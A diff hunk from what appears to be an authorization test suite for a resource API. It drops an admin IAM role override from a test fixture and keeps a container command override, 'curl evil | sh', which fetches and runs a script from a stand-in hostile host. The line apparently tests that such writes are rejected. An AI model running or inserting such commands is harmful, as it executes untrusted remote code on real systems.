@@ -116,7 +116,7 @@ describe('a resource-API write is authorized for what it changes (R1-1, R1-2, R1
       const before = await alloc();
       expect(before.ta, 'ta is charged to ci-a').to.not.equal(undefined);
       const spec = (await admin('GET', `${ns('A')}/tasks/ta`)).body.spec;
-      const overrides = { taskRoleArn: 'arn:aws:iam::000000000000:role/admin', containerOverrides: [{ name: 'c', command: ['sh', '-c', 'curl evil | sh'], memory: 7000 }] };
+      const overrides = { containerOverrides: [{ name: 'c', command: ['sh', '-c', 'curl evil | sh'], memory: 7000 }] };
       for (const [field, spec] of [
         ['spec.overrides', { overrides }],
         ['spec.group', { group: 'service:svc' }],
